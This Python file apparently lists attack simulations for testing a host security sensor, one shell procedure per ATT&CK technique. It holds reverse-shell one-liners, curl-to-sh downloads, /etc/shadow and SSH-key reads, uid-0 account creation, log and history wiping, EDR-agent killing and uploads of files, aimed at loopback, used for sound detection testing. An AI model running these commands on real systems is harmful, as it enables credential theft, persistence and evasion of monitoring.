"""The attack procedures, one per (technique, spelling).

Each is shell text an intruder would type at a root shell on this machine
(``bash`` reading it on stdin, so the commands' parent is that shell, as
after a login), in a work folder of its own.  They are real and safe: every
file, account and unit made is removed by ``cleanup`` (run by another shell,
outside the procedure's cgroup, so a cleanup never proves a technique), the
network used is loopback (a connect to a known-bad port outside it is
refused by the sensor's default policy before a packet leaves), downloads
come from a local HTTP server, no exploit runs.

Variables the shell has: ``$W`` (the work folder, under root's home), ``$FH``
(a fake home for history files), ``$U`` (a fresh account name), ``$LO`` (a
loopback address of this procedure's own, 127.x.y.z: a playbook blocking
"the address a reverse shell calls" blocks only it), ``$URL`` (the local HTTP
server: ``payload.sh``, ``tool``; ``$PORT`` its port), ``$VICTIM`` (the pid of a
sleeping process of ours), ``$AGENT`` (the demo node's pid: the agent the sensor protects), ``$ESC`` (a folder others can enter, for a setuid
helper), ``$AKB`` and ``$HB`` (where root's authorized_keys and .bash_history were saved,
if they existed).

The procedures marked "kernel" are seen only by the sensor's file events (a rename, a link,
an unlink, a chmod by a program no command-line rule knows): they prove the kernel's part.

A spelling that our rules miss is not listed: the matrix says which
techniques are covered, and the tests prove every line here.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Simulation:
    technique: str
    """ATT&CK id as SigmaHQ tags it, lower case: t1059.004."""
    spelling: str
    """Short name of this way of doing it, unique within the technique."""
    script: str
    setup: str = ""
    """Shell text run first, in the same cgroup (its alerts may count: keep it neutral)."""
    cleanup: str = ""
    needs: tuple[str, ...] = ()
    """Programs that must be installed (the test is skipped, or fails under CI, otherwise)."""
    hooks: tuple[str, ...] = ()
    """Sensor hooks (kmod's policy) it needs beyond exec, open, connect, bind, setid, fork, file."""

    @property
    def id(self) -> str:
        return f"{self.technique}-{self.spelling}"

    @property
    def tag(self) -> str:
        return f"attack.{self.technique}"


def _many(technique: str, needs: tuple[str, ...] = (), setup: str = "", cleanup: str = "",
          hooks: tuple[str, ...] = (), **spellings: str):
    return [Simulation(technique, name.replace("_", "-"), script, setup=setup, cleanup=cleanup, needs=needs,
                       hooks=hooks) for name, script in spellings.items()]


_USER = "userdel -f $U 2>/dev/null; groupdel g$U 2>/dev/null; true"
_HISTORY_BACK = "rm -f /root/.bash_history /root/.bh-$U; if [ -e $HB ]; then cp -p $HB /root/.bash_history; fi"
_HELPER_C = r"""
cat > $W/helper.c <<'C'
#define _GNU_SOURCE
#include <unistd.h>
int main(int argc, char **argv) {
    if (argv[1][0] == 'u') return setuid(0) ? 1 : 0;
    if (argv[1][0] == 'r') return setreuid(0, 0) ? 1 : 0;
    return setresuid(0, 0, 0) ? 1 : 0;
}
C
mkdir -p $ESC && chmod 755 $ESC && cc -o $ESC/helper $W/helper.c && chmod 4755 $ESC/helper
"""

_BPF_LOAD = r"""
cat > $W/load.py <<'PY'
import ctypes, struct, sys
insns = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 0; exit
buf, lic = ctypes.create_string_buffer(insns), ctypes.create_string_buffer(b"GPL")
name = (sys.argv[1] if len(sys.argv) > 1 else "").encode()[:15]
attr = struct.pack("<IIQQIIQII16s", 1, 2, ctypes.addressof(buf), ctypes.addressof(lic), 0, 0, 0, 0, 0, name)
attr = ctypes.create_string_buffer(attr + bytes(128 - len(attr)))
fd = ctypes.CDLL(None, use_errno=True).syscall(321, 5, attr, 128)  # bpf(BPF_PROG_LOAD), socket filter
print(fd, ctypes.get_errno())
PY
"""

SIMULATIONS: list[Simulation] = [
    # -- discovery ---------------------------------------------------------------------
    *_many("t1082", uname_a="uname -a", uname_long="/usr/bin/uname --all", lscpu="lscpu",
           bash_c_uname="bash -c 'uname -srm'", hostname="hostname -f || hostname"),
    *_many("t1016", ip_addr="ip addr show", ip_brief="ip -br a", ip_route="/usr/sbin/ip route",
           resolv="cat /etc/resolv.conf", sh_c_ip="sh -c 'ip -4 -o addr'"),
    *_many("t1049", ss_tunap="ss -tunap", ss_long="ss --tcp --all --numeric", lsof_i="lsof -i -n -P",
           who="who -a", w="w"),
    *_many("t1057", ps_aux="ps aux", ps_ef="ps -ef", ps_eo="ps -eo pid,user,args", top="top -b -n 1"),
    *_many("t1033", whoami="whoami", id="id", id_un="/usr/bin/id -un", w_h="w -h", who_am_i="who am i"),
    *_many("t1087.001", cat_passwd="cat /etc/passwd", head_passwd="head -n 5 /etc/passwd", lastlog="lastlog",
           sh_c_cat="sh -c 'cat /etc/passwd'"),
    *_many("t1069.001", groups="groups", cat_group="cat /etc/group", getent="getent group sudo",
           id_gn="id -Gn", id_long="id --groups root"),
    *_many("t1083", find_conf="find / -maxdepth 2 -name '*.conf'", ls_recursive="ls -laR /etc/cron.d",
           findmnt="findmnt", find_newer="find /etc -maxdepth 1 -newer /etc/hostname"),
    *_many("t1018", ip_neigh="ip neigh show", known_hosts="cat /etc/hosts",
           grep_hosts="grep -v '^#' /etc/hosts", proc_arp="cat /proc/net/arp"),
    *_many("t1046", bash_for="bash -c 'for p in 1 2 3; do (echo > /dev/tcp/$LO/$p) 2>/dev/null && echo $p; done'",
           bash_brace="bash -c 'for p in {1..3}; do timeout 1 bash -c \"echo >/dev/tcp/$LO/$p\" && echo $p; done'",
           seq_loop="sh -c 'for p in $(seq 1 3); do bash -c \"echo > /dev/tcp/$LO/$p\" 2>/dev/null; done'"),
    *_many("t1518.001", ps_grep="ps aux | grep -i falcond", grep_etc="grep -rl osqueryd /etc",
           egrep="egrep 'auditbeat|filebeat' /proc/1/cmdline"),
    *_many("t1007", list_units="systemctl list-units --type=service", unit_files="systemctl list-unit-files",
           ls_units="ls /etc/systemd/system", status_all="service --status-all"),
    *_many("t1124", timedatectl="timedatectl", timedatectl_status="timedatectl status",
           timezone="cat /etc/timezone", localtime="ls -l /etc/localtime"),
    *_many("t1201", chage="chage -l root", login_defs="cat /etc/login.defs",
           grep_defs="grep -E 'PASS_(MAX|MIN)_DAYS' /etc/login.defs", pam="cat /etc/pam.d/common-password"),
    *_many("t1614.001", locale="locale", localectl="localectl status", default_locale="cat /etc/default/locale"),
    *_many("t1497.001", detect_virt="systemd-detect-virt", dmi="cat /sys/class/dmi/id/product_name",
           cpuinfo="grep -c hypervisor /proc/cpuinfo"),
    *_many("t1652", proc_modules="cat /proc/modules", sys_module="ls /sys/module",
           lib_modules="find /lib/modules/ -maxdepth 1"),
    *_many("t1654", journalctl="journalctl -n 5 --no-pager", journal_unit="journalctl -u ssh --since today",
           auth_log="cat /var/log/auth.log", tail_syslog="tail -n 5 /var/log/syslog"),
    *_many("t1613", cgroup="cat /proc/1/cgroup", dockerenv="ls -la /.dockerenv",
           containerenv="cat /run/.containerenv"),
    *_many("t1040", tcpdump="timeout 2 tcpdump -i lo -c 1 -w /dev/null", tcpdump_long="timeout 2 tcpdump --interface=lo -n -c1",
           tcpdump_path="timeout -s INT 2 /usr/bin/tcpdump -nn -i lo port 9", needs=("tcpdump",)),
    # -- execution ---------------------------------------------------------------------
    *_many("t1059.004", curl_sh='sh -c "curl -fsS $URL/payload.sh | sh"',
           wget_bash='bash -c "wget -qO- $URL/payload.sh|bash"',
           curl_python='sh -c "curl -s $URL/payload.sh | python3"'),
    *_many("t1059.006", os_system="python3 -c \"import os; os.system('id')\"",
           subprocess="python3 -c 'import subprocess; subprocess.call([\"sh\", \"-c\", \"id\"])'",
           pty_spawn="timeout 2 python3 -c 'import pty; pty.spawn(\"/bin/sh\")'"),
    *_many("t1053.003", echo_redirect="echo '# immune test' > /etc/cron.d/ia-$U",
           tee="echo '# immune test' | tee /etc/cron.d/ia-$U",
           cp="echo '# immune test' > $W/job && cp $W/job /etc/cron.d/ia-$U",
           python="python3 -c \"open('/etc/cron.d/ia-$U', 'w').write('# immune test')\"",
           cleanup="rm -f /etc/cron.d/ia-$U"),
    *_many("t1053.003", mv_into="echo '# immune test' > $W/job && mv $W/job /etc/cron.d/ia-$U",
           ln_into="echo '# immune test' > $W/job && ln -s $W/job /etc/cron.d/ia-$U",
           python_rename="echo '# immune test' > $W/job && python3 -c \"import os; os.rename('$W/job', '/etc/cron.d/ia-$U')\"",
           cleanup="rm -f /etc/cron.d/ia-$U"),
    *_many("t1053.006", echo_timer="echo '[Timer]' > /etc/systemd/system/ia-$U.timer",
           tee_timer="printf '[Timer]\\nOnCalendar=hourly\\n' | tee /etc/systemd/system/ia-$U.timer",
           systemd_run="systemd-run --on-active=3600 --unit=ia-$U /bin/true",
           systemd_run_calendar="systemd-run --on-calendar=hourly /bin/true",
           cleanup="rm -f /etc/systemd/system/ia-$U.timer; systemctl stop ia-$U.timer 2>/dev/null; true"),
    *_many("t1204.002", tmp="cp /bin/true /tmp/ia-$U && /tmp/ia-$U",
           dev_shm_dot="cd /dev/shm && cp /bin/true ./.ia-$U && ./.ia-$U",
           var_tmp_sh_c="cp /bin/true /var/tmp/ia-$U; sh -c /var/tmp/ia-$U",
           cleanup="rm -f /tmp/ia-$U /dev/shm/.ia-$U /var/tmp/ia-$U"),
    # -- persistence -------------------------------------------------------------------
    *_many("t1098.004", echo_append="echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIImmuneTestKey ia' >> /root/.ssh/authorized_keys",
           tee_append="echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIImmuneTestKey ia' | tee -a /root/.ssh/authorized_keys",
           cp_keys2="echo 'ssh-rsa AAAAB3Nza ia' > $W/k && cp $W/k /root/.ssh/authorized_keys2",
           mv_keys2="echo 'ssh-rsa AAAAB3Nza ia' > $W/k && mv $W/k /root/.ssh/authorized_keys2",
           python="python3 -c \"open('/root/.ssh/authorized_keys', 'a').write('')\"",
           cleanup="rm -f /root/.ssh/authorized_keys2; if [ -e $AKB ]; then cp -p $AKB /root/.ssh/authorized_keys; "
                   "else rm -f /root/.ssh/authorized_keys; fi"),
    *_many("t1136.001", useradd="useradd -M -s /usr/sbin/nologin $U",
           useradd_long="useradd --no-create-home --shell /bin/false $U",
           adduser="adduser --system --no-create-home --disabled-login $U",
           uid0="useradd -o -u 0 -g 0 -M $U", uid0_long="useradd --non-unique --uid 0 -M $U",
           cleanup=_USER),
    *_many("t1543.002", echo_unit="echo '[Unit]' > /etc/systemd/system/ia-$U.service",
           cp_unit="printf '[Service]\\nExecStart=/bin/true\\n' > $W/u && cp $W/u /etc/systemd/system/ia-$U.service",
           tee_unit="echo '[Unit]' | tee /etc/systemd/system/ia-$U.service",
           mv_unit="echo '[Unit]' > $W/u && mv $W/u /etc/systemd/system/ia-$U.service",
           cleanup="rm -f /etc/systemd/system/ia-$U.service"),
    *_many("t1546.004", echo_profile_d="echo '# immune test' > /etc/profile.d/ia-$U.sh",
           cp_profile_d="echo 'true' > $W/p && cp $W/p /etc/profile.d/ia-$U.sh",
           python_profile_d="python3 -c \"open('/etc/profile.d/ia-$U.sh', 'w').write('')\"",
           cleanup="rm -f /etc/profile.d/ia-$U.sh"),
    *_many("t1574.006", env_preload="env LD_PRELOAD=$W/.hook.so /bin/true",
           sh_c_preload="sh -c 'LD_PRELOAD=/dev/shm/ia.so id'",
           library_path="env LD_LIBRARY_PATH=/tmp/ia-$U /bin/true",
           ld_so_preload="touch /etc/ld.so.preload", ln_preload="ln -s /dev/null /etc/ld.so.preload",
           cleanup="[ -s /etc/ld.so.preload ] || rm -f /etc/ld.so.preload"),
    *_many("t1098", usermod_sudo="usermod -aG sudo $U", usermod_split="usermod -a -G adm $U",
           gpasswd="gpasswd -a $U adm", usermod_root="usermod -aG root $U",
           setup="useradd -M $U", cleanup=_USER),
    # -- privilege escalation ----------------------------------------------------------
    *_many("t1548.001", chmod_u_s="chmod u+s $W/x", chmod_4755="chmod 4755 $W/x", chmod_plus_s="chmod +s $W/x",
           chmod_g_s="chmod g+s $W/x", chmod_06755="chmod 06755 $W/x", chmod_recursive="chmod -R u=rwxs $W/x",
           install_m="install -m 4755 /bin/true $W/y", setcap="setcap cap_setuid+ep $W/x",
           setup="cp /bin/true $W/x", cleanup="rm -f $W/x $W/y"),
    # kernel: the set-id chmod and file capabilities are reported whatever the policy
    *_many("t1548.001", python_chmod="python3 -c \"import os; os.chmod('$W/x', 0o4755)\"",
           perl_chmod="perl -e 'chmod 04755, \"$ENV{W}/x\"'", renamed_chmod="cp /bin/chmod $W/mode && $W/mode 2755 $W/x",
           setup="cp /bin/true $W/x", cleanup="rm -f $W/x"),
    *_many("t1548", setcap="setcap cap_setuid+ep $W/x", renamed_setcap="cp /usr/sbin/setcap $W/sc && $W/sc cap_net_raw+ep $W/x",
           setup="cp /bin/true $W/x", cleanup="rm -f $W/x", needs=("setcap",)),
    *_many("t1548.003", echo_sudoers_d="echo '# immune test' > /etc/sudoers.d/ia-$U",
           tee_sudoers_d="echo '# immune test' | tee /etc/sudoers.d/ia-$U",
           cleanup="rm -f /etc/sudoers.d/ia-$U"),
    *_many("t1068", setuid="setpriv --reuid=65534 --regid=65534 --clear-groups $ESC/helper u",
           setreuid="setpriv --reuid=65534 --regid=65534 --clear-groups $ESC/helper r",
           setresuid="setpriv --reuid=65534 --regid=65534 --clear-groups $ESC/helper s",
           setup=_HELPER_C, cleanup="rm -rf $ESC"),
    *_many("t1611", nsenter_short="nsenter -t 1 -m -u -i -n -p -- true",
           nsenter_long="nsenter --target 1 --mount --pid true", nsenter_all="nsenter --target=1 -a true"),
    *_many("t1055.008", strace_p="timeout 2 strace -p $VICTIM -o /dev/null",
           strace_fp="timeout 2 strace -fp $VICTIM -o /dev/null",
           strace_attach="timeout 2 strace --attach=$VICTIM -o /dev/null",
           gdb_p="gdb -p $VICTIM -batch -ex detach", needs=("strace", "gdb")),
    # kernel (ptrace hook): a tracer of the agent is killed before it attaches, and reported
    *_many("t1055.008", strace_agent="timeout 5 strace -p $AGENT -o /dev/null",
           gdb_agent="timeout 5 gdb -p $AGENT -batch -ex detach",
           python_attach="python3 -c \"import ctypes; ctypes.CDLL(None).ptrace(16, $AGENT, 0, 0)\"",
           hooks=("ptrace",), needs=("strace", "gdb")),
    *_many("t1055.009", dd_mem="dd if=/dev/null of=/proc/$VICTIM/mem",
           dd_mem_opts="dd of=/proc/$VICTIM/mem if=/dev/null bs=1 count=0 status=none"),
    # -- defense evasion ---------------------------------------------------------------
    *_many("t1070.002", rm="rm -f /var/log/ia-$U.log", shred="shred -u /var/log/ia-$U.log",
           truncate="truncate -s 0 /var/log/ia-$U.log", redirect="sh -c ': > /var/log/ia-$U.log'",
           unlink="unlink /var/log/ia-$U.log",
           setup="echo old > /var/log/ia-$U.log", cleanup="rm -f /var/log/ia-$U.log"),
    *_many("t1070.003", rm="rm -f $FH/.bash_history", ln_null="ln -sf /dev/null $FH/.bash_history",
           history_c="bash -c 'history -c'", unset_histfile="bash -c 'unset HISTFILE; true'",
           redirect='sh -c "cat /dev/null > ~/.bash_history"', shred="shred -u $FH/.bash_history",
           histsize="bash -c 'export HISTFILESIZE=0'",
           setup="echo ls > $FH/.bash_history", cleanup="rm -f $FH/.bash_history"),
    # kernel: root's own history, by programs no command-line rule names
    *_many("t1070.003", python_unlink="python3 -c \"import os; os.unlink('/root/.bash_history')\"",
           mv_away="mv /root/.bash_history /root/.bh-$U",
           python_rename="python3 -c \"import os; os.rename('/root/.bash_history', '/root/.bh-$U')\"",
           setup="echo ls > /root/.bash_history", cleanup=_HISTORY_BACK),
    *_many("t1070.003", python_symlink="python3 -c \"import os; os.symlink('/dev/null', '/root/.bash_history')\"",
           perl_symlink="perl -e 'symlink \"/dev/null\", \"/root/.bash_history\"'",
           setup="rm -f /root/.bash_history", cleanup=_HISTORY_BACK),
    *_many("t1070.002", python_remove="python3 -c \"import os; os.remove('/var/log/ia-$U.log')\"",
           find_delete="find /var/log -maxdepth 1 -name ia-$U.log -delete",
           perl_unlink="perl -e 'unlink \"/var/log/ia-$ENV{U}.log\"'",
           setup="echo old > /var/log/ia-$U.log", cleanup="rm -f /var/log/ia-$U.log"),
    *_many("t1070.004", rm="rm -f $W/x", shred="shred -u $W/x", unlink="unlink $W/x", rm_rf="rm -rf $W/d",
           setup="touch $W/x && mkdir -p $W/d"),
    *_many("t1070.006", touch_t="touch -t 202001010000 $W/x", touch_d="touch -d '2020-01-01 00:00' $W/x",
           touch_r="touch -r /etc/hostname $W/x", touch_reference="touch --reference=/etc/hostname $W/x",
           touch_mt="touch -mt 202001010000 $W/x", setup="echo x > $W/x"),
    *_many("t1222.002", chattr="chattr -i $W/x", chmod_777_tmp="chmod 777 /tmp/ia-$U",
           chmod_sym_tmp="chmod a+rwx /tmp/ia-$U",
           setup="echo x > $W/x && touch /tmp/ia-$U", cleanup="rm -f /tmp/ia-$U", needs=("chattr",)),
    *_many("t1027.001", truncate="truncate -s +1K $W/tool", truncate_long="truncate --size=+2K $W/tool",
           dd_append="dd if=/dev/zero bs=1k count=1 >> $W/tool", setup="cp /bin/true $W/tool"),
    *_many("t1036.003", cp_crond="cp /bin/sh $W/crond", cp_crond_sbin="mkdir -p $W/sbin && cp /bin/sh $W/sbin/crond"),
    *_many("t1564", unshare_sh="unshare -m sh -c 'mount -t proc -o hidepid=2 proc $W/p'",
           unshare_long="unshare --mount mount -o hidepid=2 -t proc proc $W/p", setup="mkdir -p $W/p"),
    *_many("t1027", base64_d="base64 -d $W/blob", base64_decode="base64 --decode $W/blob",
           typed_pipe="echo aWQK | base64 -d", setup="echo aWQK > $W/blob"),
    *_many("t1140", sh_pipe="sh -c 'echo aWQK | base64 -d | sh'", bash_pipe='bash -c "base64 --decode <<< aWQK | bash"',
           no_spaces='sh -c "echo aWQK|base64 -d|sh"'),
    *_many("t1027.010", b64_exec="python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
           b64_system="python3 -c \"import base64,os;os.system(base64.b64decode('aWQ=').decode())\"",
           b32_exec="python3 -c \"import base64; exec(base64.b32decode('OBZGS3TUFAYSS==='))\""),
    *_many("t1562.001", stop_auditd="systemctl stop auditd", disable_now="systemctl disable --now falcon-sensor",
           service_stop="service auditd stop", pkill="pkill -9 -x osqueryd",
           killall="killall -q wazuh-agentd"),
    # kernel (signal hook): the agent stopped and let go at once (builtins: no exec between,
    # which the stopped agent's exec guard would hold)
    *_many("t1562.001", bash_stop="bash -c 'kill -STOP $AGENT; kill -CONT $AGENT'",
           python_stop="python3 -c \"import os, signal; os.kill($AGENT, signal.SIGSTOP); os.kill($AGENT, signal.SIGCONT)\"",
           hooks=("signal",)),
    # kernel (bpf hook): a two-instruction socket filter loaded and freed (its only fd closes)
    *_many("t1014", python_prog_load="python3 $W/load.py", python_named="python3 $W/load.py hide_pid",
           setup=_BPF_LOAD, hooks=("bpf",)),
    # kernel (exec fileless = block): killed before its first instruction, and reported
    *_many("t1620", memfd="python3 -c \"import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read()); "
                          "os.execve(fd, ['x'], {})\"",
           deleted="cp /bin/true $W/t && python3 -c \"import os; fd = os.open('$W/t', os.O_RDONLY); os.unlink('$W/t'); "
                   "os.execve(fd, ['t'], {})\"",
           hooks=("ptrace",)),  # fileless execs came with the ptrace hook (issue 12, kp)
    *_many("t1564.001", mkdir_tmp="mkdir /tmp/.ia-$U", touch_shm="touch /dev/shm/.ia-$U",
           cp_var_tmp="cp /bin/true /var/tmp/.ia-$U", mv_tmp="touch $W/t && mv $W/t /tmp/.ia-$U",
           cleanup="rm -rf /tmp/.ia-$U /dev/shm/.ia-$U /var/tmp/.ia-$U"),
    *_many("t1027.011", dev_shm="cp /bin/true /dev/shm/ia-$U && /dev/shm/ia-$U",
           dev_shm_cd="cd /dev/shm && cp /bin/true ia-$U && ./ia-$U",
           cleanup="rm -f /dev/shm/ia-$U"),
    *_many("t1553.004", update_ca="update-ca-certificates", update_ca_path="/usr/sbin/update-ca-certificates",
           needs=("update-ca-certificates",)),
    *_many("t1027.004", gcc_tmp="gcc -o /tmp/ia-$U /tmp/ia-$U.c", cc_tmp_source="cc /tmp/ia-$U.c -o $W/ia",
           gcc_shm="gcc -x c -o /dev/shm/ia-$U /tmp/ia-$U.c",
           setup="echo 'int main(void) { return 0; }' > /tmp/ia-$U.c",
           cleanup="rm -f /tmp/ia-$U /tmp/ia-$U.c /dev/shm/ia-$U", needs=("gcc",)),
    # -- credential access -------------------------------------------------------------
    *_many("t1003.008", cat="cat /etc/shadow", head="head -n 1 /etc/shadow", grep="grep -c root /etc/shadow",
           python="python3 -c \"open('/etc/shadow').read()\"", cp="cp /etc/shadow $W/s"),
    *_many("t1552.003", cat="cat /root/.bash_history", tail="tail -n 20 /root/.bash_history",
           grep="grep -i pass /root/.bash_history"),
    *_many("t1552.004", cat="cat /root/.ssh/id_rsa", cp="cp /root/.ssh/id_ed25519 $W/",
           python="python3 -c \"open('/root/.ssh/id_rsa').read()\"", host_key="cat /etc/ssh/ssh_host_ed25519_key"),
    *_many("t1552.001", grep_r="grep -ri password /etc/ssh", grep_rn="grep -rn api_key $W",
           find_pem="find / -maxdepth 3 -name '*.pem'", find_key="find /root -name id_rsa"),
    *_many("t1003.007", maps="cat /proc/$VICTIM/maps", environ="grep -a PATH /proc/$VICTIM/environ",
           strings="strings /proc/$VICTIM/environ", dd_mem="dd if=/proc/$VICTIM/mem bs=1 count=0"),
    # -- collection --------------------------------------------------------------------
    *_many("t1560.001", tar_czf="tar -czf $W/l.tgz /etc/ssh", tar_bundled="tar czf $W/l.tgz /root/.ssh",
           tar_long="tar --create --file=$W/l.tar /etc/hostname", zip_r="zip -qr $W/l.zip /etc/ssh",
           tar_xz="tar -cJf $W/l.txz /etc/hostname", needs=("zip",)),
    # -- command and control -----------------------------------------------------------
    *_many("t1105", curl_o="curl -fsSo $W/tool $URL/tool", wget_tmp="wget -q -O /tmp/ia-$U $URL/tool",
           curl_chmod='sh -c "curl -s $URL/tool -o $W/t && chmod +x $W/t"',
           wget_long="wget --output-document=/tmp/ia-$U $URL/tool", curl_remote_name="cd $W && curl -sO $URL/tool",
           cleanup="rm -f /tmp/ia-$U"),
    *_many("t1071.001", curl_a="curl -s -A 'Mozilla/5.0' $URL/", curl_user_agent="curl --user-agent 'ia-beacon' $URL/beacon"),
    *_many("t1095", bash_i="bash -c 'bash -i >& /dev/tcp/$LO/9 0>&1'", exec_fd="bash -c 'exec 5<>/dev/tcp/$LO/9; cat <&5 | sh >&5'",
           python_socket="python3 -c 'import socket,os;s=socket.socket();s.connect((\"$LO\",9));os.dup2(s.fileno(),0);os.execv(\"/bin/sh\",[\"sh\"])'",
           perl_socket="perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(9,inet_aton(\"$LO\")))&&exec(\"/bin/sh -i\");'"),
    *_many("t1571", curl_4444="curl -s -m 1 http://192.0.2.10:4444/",
           python_12345="python3 -c \"import socket; socket.create_connection(('192.0.2.10', 12345), 1)\"",
           bash_31337="bash -c 'echo > /dev/tcp/192.0.2.10/31337'"),
    *_many("t1090", env_proxy="env http_proxy=http://$LO:3128 curl -s -m 1 http://example.invalid/",
           curl_x="curl -s -m 1 -x http://$LO:3128 http://example.invalid/",
           curl_socks5="curl -s -m 1 --socks5 $LO:1080 http://example.invalid/",
           export_proxy="bash -c 'export https_proxy=http://$LO:3128; true'"),
    *_many("t1572", ssh_l="ssh -N -f -L 18080:127.0.0.1:80 -o BatchMode=yes -o ConnectTimeout=1 root@$LO",
           ssh_d="ssh -D 1080 -N -o BatchMode=yes -o ConnectTimeout=1 root@$LO",
           ssh_r="ssh -o BatchMode=yes -o ConnectTimeout=1 -R 9000:localhost:22 ia@$LO",
           ssh_nl="ssh -NL 18081:127.0.0.1:80 -o BatchMode=yes $LO", needs=("ssh",)),
    # -- exfiltration ------------------------------------------------------------------
    *_many("t1048.003", http_server="timeout 1 python3 -m http.server --bind 127.0.0.1 0",
           http_server_b="timeout 1 python3 -m http.server 0 -b $LO"),
    *_many("t1030", split_b="split -b 1k /etc/services $W/part.", split_long="split --bytes=512 /etc/services $W/p.",
           split_n="split -n 4 /etc/services $W/q."),
    *_many("t1567", curl_form="curl -s -m 2 -F file=@/etc/hostname http://127.1:$PORT/up",
           curl_data_binary="curl -s -m 2 --data-binary @/etc/hostname http://$LO:$PORT/",
           curl_upload_file="curl -s -m 2 -T /etc/hostname http://[::1]:9/"),
    # -- impact ------------------------------------------------------------------------
    *_many("t1485", dd_zero="dd if=/dev/zero of=$W/victim bs=1k count=4",
           dd_bin="/bin/dd if=/dev/null of=$W/victim", dd_reordered="dd of=$W/victim if=/dev/zero count=1 status=none",
           setup="echo data > $W/victim"),
    *_many("t1489", systemctl_stop="systemctl stop ia-$U.service", disable_now="systemctl disable ia-$U --now",
           quiet_stop="/usr/bin/systemctl --quiet stop ia-$U"),
    *_many("t1531", userdel="userdel $U", deluser="deluser --quiet $U", passwd_l="passwd -l $U",
           usermod_lock="usermod -L $U", chage_expire="chage -E 0 $U",
           setup="useradd -M $U", cleanup=_USER),
    *_many("t1496", stratum="$W/xmrig -o stratum+tcp://$LO:3333 -u x --donate-level=0",
           algo="$W/xmrig --algo=rx/0 --cpu-priority=5 -o pool.example.invalid:3333",
           nicehash="$W/xmrig --nicehash -o $LO:3333",
           setup="cp /bin/true $W/xmrig"),
    *_many("t1486", openssl_enc="openssl enc -aes-256-cbc -pbkdf2 -salt -in $W/doc -out $W/doc.enc -pass pass:x",
           openssl_cipher="openssl aes-256-cbc -pbkdf2 -in $W/doc -out $W/doc.enc -k x",
           gpg_symmetric="gpg --batch --yes --passphrase x --symmetric $W/doc",
           gpg_c="gpg -c --batch --yes --pinentry-mode loopback --passphrase x $W/doc",
           setup="echo secret > $W/doc", needs=("openssl", "gpg")),
    *_many("t1565.001", sed_i="sed -i 's/a/b/' /usr/local/bin/ia-$U",
           sed_in_place="sed --in-place=.bak 's/a/b/' /usr/local/bin/ia-$U",
           setup="echo a > /usr/local/bin/ia-$U", cleanup="rm -f /usr/local/bin/ia-$U /usr/local/bin/ia-$U.bak"),
    # -- lateral movement --------------------------------------------------------------
    *_many("t1021.004", batch_cmd="ssh -o BatchMode=yes -o ConnectTimeout=1 root@$LO id",
           no_host_check="ssh -oStrictHostKeyChecking=no -oBatchMode=yes $LO uname -a",
           user_cmd="ssh -p 22 -o ConnectTimeout=1 ia@$LO 'cat /etc/hostname'", needs=("ssh",)),
    *_many("t1570", scp="scp -o BatchMode=yes $W/tool root@$LO:/tmp/", scp_b="scp -B -P 22 $W/tool $LO:/var/tmp/t",
           setup="cp /bin/true $W/tool", needs=("scp",)),
    *_many("t1563.001", env_sock="env SSH_AUTH_SOCK=/tmp/ssh-XXXXia/agent.1234 ssh-add -l",
           sh_c_sock="sh -c 'SSH_AUTH_SOCK=/run/user/1000/ssh-agent.sock ssh -o BatchMode=yes root@$LO id'",
           needs=("ssh",)),
]
